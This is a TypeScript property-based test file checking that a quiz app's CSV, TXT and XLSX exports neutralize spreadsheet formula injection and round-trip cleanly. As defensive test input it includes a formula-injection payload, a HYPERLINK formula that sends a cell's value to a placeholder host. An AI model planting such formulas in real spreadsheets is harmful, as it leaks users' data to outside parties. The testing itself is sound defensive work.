import fc from 'fast-check';
import * as XLSX from 'xlsx';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { COLUMN_LABELS, EXPORT_COLUMNS, type SheetQuestion } from '#shared/domain/question-sheet.js';
import type { Difficulty } from '#shared/domain/difficulty.js';
import { exportQuestions } from '../../functions/domains/files/exporter.js';
import { parseSheet } from '../../functions/domains/files/importer/parse.js';
import { parseTextSheet } from '../../functions/domains/files/importer/text-sheet.js';
import { neutralizeCell, restoreCell } from '../../functions/domains/files/importer/export-marker.js';

/*
 * CSV injection: our text exports never hold a cell a spreadsheet program would run as a formula,
 * and importing our own export gives back exactly the texts exported.
 */

const FORMULA_START = /^[=+\-@\t\r]/;
/** Cells made of the characters that matter here: formula starts, quotes, separators, line breaks, Hangul. */
const cell = fc
  .array(
    fc.constantFrom('=', '+', '-', '@', "'", '\t', '\r', '\n', '\r\n', '"', ',', ';', ' ', '가', '한', 'a', '1', '#'),
    {
      maxLength: 8,
    },
  )
  .map((parts) => parts.join(''));
const question = fc.record({
  csv_id: cell,
  title: cell,
  content: cell.map((c) => `${c}q`),
  answer: cell,
  explanation: cell,
  difficulty: cell as fc.Arbitrary<unknown> as fc.Arbitrary<Difficulty>,
  url: cell,
  group_id: cell,
}) satisfies fc.Arbitrary<SheetQuestion>;

const cellsOf = (q: SheetQuestion) => EXPORT_COLUMNS.map((c) => q[c]);
const padded = (rows: unknown[][]) => rows.map((row) => EXPORT_COLUMNS.map((_, i) => String(row[i] ?? '')));

describe('text exports are safe to open and round-trip', () => {
  it('neutralizeCell and restoreCell undo each other on every string', () => {
    fc.assert(
      fc.property(fc.string(), cell, (any, special) => {
        for (const text of [any, special]) {
          expect(restoreCell(neutralizeCell(text))).toBe(text);
          expect(neutralizeCell(text)).not.toMatch(FORMULA_START);
        }
      }),
    );
  });

  it.each(['csv', 'txt'] as const)(
    '.%s: no cell starts like a formula, and import gives back the exported texts',
    (format) => {
      fc.assert(
        fc.property(
          fc.array(question, { minLength: 1, maxLength: 5 }),
          fc.constantFrom('ko', 'en'),
          (questions, language) => {
            const { bytes } = exportQuestions(questions, language as 'ko' | 'en', format, 'x');
            // As written (what a spreadsheet program would see): every formula-like cell is escaped.
            const raw = parseTextSheet(bytes, format);
            for (const row of raw.rows) for (const value of row) expect(String(value)).not.toMatch(FORMULA_START);
            const sheet = parseSheet(bytes, format);
            expect(padded(sheet.rows)).toEqual(questions.map(cellsOf));
          },
        ),
        { numRuns: 100 },
      );
    },
  );

  it("keeps a cell that really starts with '= (exported as ''=)", () => {
    const q = {
      csv_id: '',
      title: "'=1+1",
      content: '\'=HYPERLINK("http://x/?"&A1,"click")',
      answer: "'",
      explanation: "''",
      difficulty: '' as Difficulty,
      url: '',
      group_id: '',
    };
    for (const format of ['csv', 'txt'] as const) {
      const { bytes } = exportQuestions([q], 'en', format, 'x');
      expect(Buffer.from(bytes).toString('utf8')).toContain(`"''=HYPERLINK(""http://x/?""&A1,""click"")"`);
      expect(padded(parseSheet(bytes, format).rows)).toEqual([cellsOf(q)]);
    }
  });

  it('reads a file that is not provably our export as written', () => {
    const header = EXPORT_COLUMNS.map((c) => COLUMN_LABELS[c].en).join(',');
    // Our header, but a bare formula start our export never writes: the quotes stay.
    const mixed = parseSheet(Buffer.from(`${header}\n"'=a",=b\n`), 'csv');
    expect(mixed.rows[0]!.slice(0, 2)).toEqual(["'=a", '=b']);
    // Another header: the quote stays.
    const other = parseSheet(Buffer.from(`question,answer\n"'=a",b\n`), 'csv');
    expect(other.rows[0]).toEqual(["'=a", 'b']);
    // Ours: the quote goes.
    const ours = parseSheet(Buffer.from(`${header}\n"'=a","'-1"\n`), 'csv');
    expect(ours.rows[0]!.slice(0, 2)).toEqual(['=a', '-1']);
  });

  it('.xlsx keeps formula-like texts as string cells, never formulas', () => {
    const q = {
      csv_id: '',
      title: '',
      content: '=HYPERLINK("http://x/?"&A1,"click")',
      answer: '+1',
      explanation: '@SUM(A1)',
      difficulty: '' as Difficulty,
      url: '',
      group_id: '-2',
    };
    const { bytes } = exportQuestions([q], 'en', 'xlsx', 'x');
    const xml = new TextDecoder().decode(unzipSync(bytes)['xl/worksheets/sheet1.xml']);
    expect(xml).not.toContain('<f');
    const sheet =
      XLSX.read(bytes, { type: 'buffer', cellFormula: true }).Sheets['Questions'] ??
      XLSX.read(bytes).Sheets[XLSX.read(bytes).SheetNames[0]!]!;
    for (const address of ['A2', 'B2', 'C2', 'H2']) {
      expect(sheet[address]).toMatchObject({ t: 's' });
      expect(sheet[address].f).toBeUndefined();
    }
    expect(sheet.A2.v).toBe(q.content);
  });
});
